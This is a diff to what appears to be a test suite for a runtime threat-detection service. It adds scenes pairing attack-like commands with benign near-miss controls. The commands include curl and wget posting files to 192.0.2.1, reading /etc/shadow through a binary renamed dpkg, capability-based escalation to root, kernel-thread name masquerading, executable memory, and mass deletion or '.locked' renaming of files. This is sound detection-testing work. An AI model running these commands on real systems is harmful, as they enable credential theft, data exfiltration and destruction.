@@ -863,7 +863,251 @@ GAPS: Final = [
     ),
 ]
 
+MAKE_CAPABLE: Final = (
+    'os.setxattr("odd", "security.capability", struct.pack("<5I", 0x2000001, 1 << {bit}, 0, 0, 0))'
+)
+CAPABLE: Final = (
+    f"{MEMORY_FOLDER}cp /usr/bin/true odd; python3 -c 'import os, struct; {MAKE_CAPABLE}';"
+    " setpriv --reuid 65534 --clear-groups ./odd"
+)
+"""A program whose file has a capability."""
+BECOME_USER: Final = LIBC + "libc.prctl(8, 1, 0, 0, 0); os.setresuid(65534, 65534, 65534)\n"
+"""Without what it may do, but what it might do is left."""
+TAKE: Final = (
+    "asked = (ctypes.c_uint32 * 6)(1 << {bit}, 1 << {bit})\n"
+    "libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), asked)"
+)
+KEEP_SETUID: Final = (
+    "setpriv --reuid 65534 --clear-groups --inh-caps +setuid --ambient-caps +setuid"
+)
+RIGHTS: Final = [
+    Scene(
+        "root-by-a-capability",
+        "PrivilegeEscalation:Runtime/ElevationToRoot",
+        f"{KEEP_SETUID} setpriv --reuid 0 true",
+        _python("os.setresuid(65534, 65534, 0); os.seteuid(0)"),
+        {"evidence.rule": "became_root"},
+        severity="high",
+    ),
+    Scene(
+        "capable-program",
+        "PrivilegeEscalation:Runtime/ElevationToRoot",
+        CAPABLE.format(bit=19),
+        # Like ping, it may send whatever packet it likes.
+        CAPABLE.format(bit=13),
+        {"context.threatFilePath": "/mnt/odd", "context.capabilities": ["CAP_SYS_PTRACE"]},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "capabilities-taken",
+        "PrivilegeEscalation:Runtime/ElevationToRoot",
+        _python(BECOME_USER + TAKE.format(bit=2)),
+        _python(BECOME_USER + TAKE.format(bit=13)),
+        {"context.capabilities": ["CAP_DAC_READ_SEARCH"]},
+        severity=INFORMATIONAL,
+    ),
+]
+
+OWN_DPKG: Final = "mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg; "
+"""What an image may call a package manager, where one belongs."""
+OWN_ETC: Final = "mount -t tmpfs none /etc; mkdir /etc/profile.d; "
+PACKAGED: Final = [
+    Scene(
+        "package-manager-of-an-image",
+        "Persistence:Runtime/SensitiveFileModified",
+        f"{OWN_DPKG}{OWN_ETC}/opt/dpkg -c 'echo x > /etc/profile.d/x.sh; true'",
+        f"{OWN_DPKG}{OWN_ETC}/opt/dpkg -c 'ls /etc/profile.d; true'",
+        {"evidence.rule": "packaged_change", "context.filePath": "/etc/profile.d/x.sh"},
+        contained=True,
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "secret-read-by-a-package-manager-of-an-image",
+        "CredentialAccess:Runtime/SensitiveFileRead",
+        f"{OWN_DPKG}/opt/dpkg -c 'cat /etc/shadow; true'",
+        f"{OWN_DPKG}/opt/dpkg -c 'cat /etc/passwd; true'",
+        {"context.filePath": "/etc/shadow"},
+        contained=True,
+        severity="medium",
+    ),
+    Scene(
+        "mount-by-a-runtime-of-an-image",
+        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
+        "mount -t tmpfs none /opt; cp /bin/mount /opt/runc; /opt/runc -t ext4 /dev/nowhere /mnt",
+        "mount -t tmpfs none /opt; cp /bin/mount /opt/runc; /opt/runc -t ramfs none /mnt",
+        {"process.executablePath": "/opt/runc"},
+        contained=True,
+        severity="medium",
+    ),
+]
+
+SSHD: Final = "mount -t tmpfs none /opt; cp /usr/bin/perl /opt/sshd; /opt/sshd -MSocket -e '{}'"
+"""Something in the place of a server that is expected to read secrets."""
+SERVE: Final = "socket(S, PF_INET, SOCK_STREAM, 0); listen(S, 1);"
+LATE: Final = [
+    Scene(
+        "secret-read-late",
+        "CredentialAccess:Runtime/SensitiveFileRead",
+        SSHD.format(SERVE + ' open(F, "/etc/shadow")'),
+        SSHD.format('open(F, "/etc/shadow"); ' + SERVE),
+        {"evidence.rule": "sensitive_read_late", "context.filePath": "/etc/shadow"},
+        severity="medium",
+    ),
+]
+
+COPIES: Final = [
+    Scene(
+        f"sent-by-{program}",
+        "Exfiltration:Runtime/RemoteFileCopy",
+        _tool(program, sent),
+        _tool(program, got),
+        {"context.commandLineExample": ...},
+        severity=INFORMATIONAL,
+    )
+    for program, sent, got in (
+        ("curl", "-sT x http://192.0.2.1/", "-XPOST -d x=@ -o T http://192.0.2.1/"),
+        ("wget", "--post-file=x http://192.0.2.1/", "--post-data=x http://192.0.2.1/"),
+    )
+]
+
+MAP: Final = (
+    LIBC + "libc.mmap.restype = ctypes.c_void_p\n"
+    "at = ctypes.c_void_p(libc.mmap(None, 4096, {}, 0x22, -1, 0))\n"
+    "assert not libc.mprotect(at, 4096, 5)"
+)
+"""Memory with a protection, which becomes executable."""
+CODE: Final = [
+    Scene(
+        "written-code",
+        "DefenseEvasion:Runtime/MemoryMadeExecutable",
+        _python(MAP.format(3)),
+        _python(MAP.format(1)),
+        {"context.memoryRegions": ["anonymous"]},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "code-in-the-heap",
+        "DefenseEvasion:Runtime/MemoryMadeExecutable",
+        _python(
+            LIBC + "libc.sbrk.restype = ctypes.c_void_p\n"
+            "at = (libc.sbrk(8192) + 4095) // 4096 * 4096\n"
+            "assert not libc.mprotect(ctypes.c_void_p(at), 4096, 5)"
+        ),
+        _python(
+            LIBC + "libc.sbrk.restype = ctypes.c_void_p\n"
+            "at = (libc.sbrk(8192) + 4095) // 4096 * 4096\n"
+            "assert not libc.mprotect(ctypes.c_void_p(at), 4096, 1)"
+        ),
+        {"context.memoryRegions": ["heap"]},
+        severity=INFORMATIONAL,
+    ),
+]
+
+NAMES: Final = [
+    Scene(
+        "named-like-the-kernel",
+        "DefenseEvasion:Runtime/FalseProcessName",
+        _python(LIBC + "libc.prctl(15, b'kworker/u8:2')"),
+        _python(LIBC + "libc.prctl(15, b'worker/u8:2')"),
+        {"context.claimedName": "kworker/u8:2"},
+        severity="high",
+    ),
+    Scene(
+        "started-like-the-kernel",
+        "DefenseEvasion:Runtime/FalseProcessName",
+        "bash -c 'exec -a [kworker/0:1-events] true'",
+        "bash -c 'exec -a [worker/0:1-events] true'",
+        {"context.claimedName": "[kworker/0:1-events]"},
+        severity="high",
+    ),
+]
+
+LISTENER: Final = (
+    "mount -t tmpfs none /opt; cp /bin/bash /opt/{0}; /opt/{0} -c '"
+    'python3 -c "import socket; s = socket.socket(); s.listen()"; true'
+    "'"
+)
+"""A program below something of that name waits for connections."""
+IN_PACKAGE: Final = "mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg; "
+UNEXPECTED: Final = [
+    Scene(
+        "listener-below-a-web-server",
+        "CommandAndControl:Runtime/UnusualPort",
+        LISTENER.format("nginx"),
+        LISTENER.format("worker"),
+        {"evidence.rule": "server_listener"},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "port-of-a-node",
+        "CommandAndControl:Runtime/UnusualPort",
+        _python("socket.socket().connect_ex(('127.0.0.1', 31000))"),
+        _python("socket.socket().connect_ex(('127.0.0.1', 29999))"),
+        {"action.networkConnectionAction.remotePortDetails.port": 31000},
+        contained=True,
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "network-in-a-package",
+        f"Execution:{SUSPICIOUS}",
+        f"{IN_PACKAGE}/opt/dpkg -c 'curl -s http://127.0.0.1:1; true'",
+        f"{IN_PACKAGE}curl -s http://127.0.0.1:1; /opt/dpkg -c 'true; true'",
+        {"context.commandLineExample": "curl URL"},
+        severity=INFORMATIONAL,
+    ),
+]
+
+FILES_IN: Final = (
+    MEMORY_FOLDER + "for d in {}; do mkdir -p $d; for f in $(seq {}); do : > $d/$f; done; done; "
+)
+"""So many files in each of these folders."""
+EIGHT: Final = FILES_IN.format("a b c d e f g h", 13)
+FOUR: Final = FILES_IN.format("a/a a/b b/c b/d c/e c/f d/g d/h", 13)
+LOCK: Final = "python3 -c 'import glob, os; [os.rename(f, f + {}) for f in glob.glob(\"*/*\")]'"
+DESTROYED: Final = [
+    Scene(
+        "files-destroyed",
+        "Impact:Runtime/FilesDestroyed",
+        f"{EIGHT}rm -r a b c d e f g h; true",
+        f"{FOUR}rm -r a b c d; true",
+        {"context.fileOperation": "Delete", "context.relatedFilePaths": ...},
+        severity="high",
+    ),
+    Scene(
+        "files-destroyed-one-by-one",
+        "Impact:Runtime/FilesDestroyed",
+        f"{EIGHT}for f in */*; do rm $f; done",
+        f"{FOUR}for f in */*/*; do rm $f; done",
+        {"context.fileOperation": "Delete"},
+        severity="high",
+    ),
+    Scene(
+        "files-encrypted",
+        "Impact:Runtime/FilesDestroyed",
+        EIGHT + LOCK.format('".locked"'),
+        EIGHT + LOCK.format('"x"'),
+        {"context.fileOperation": "Rename"},
+        severity="high",
+    ),
+    Scene(
+        "file-among-devices",
+        "DefenseEvasion:Runtime/SensitiveFileModified",
+        "mount -t tmpfs none /dev; echo x > /dev/odd",
+        "mount -t tmpfs none /dev; mkdir /dev/shm; echo x > /dev/shm/odd; : > /dev/null",
+        {"context.filePath": "/dev/odd", "evidence.rule": "file_in_dev"},
+        severity=INFORMATIONAL,
+    ),
+]
+
 SCENES: Final = [
+    *DESTROYED,
+    *UNEXPECTED,
+    *NAMES,
+    *CODE,
+    *COPIES,
+    *LATE,
+    *PACKAGED,
+    *RIGHTS,
     *SIGNALS,
     *RELAYS,
     *GAPS,
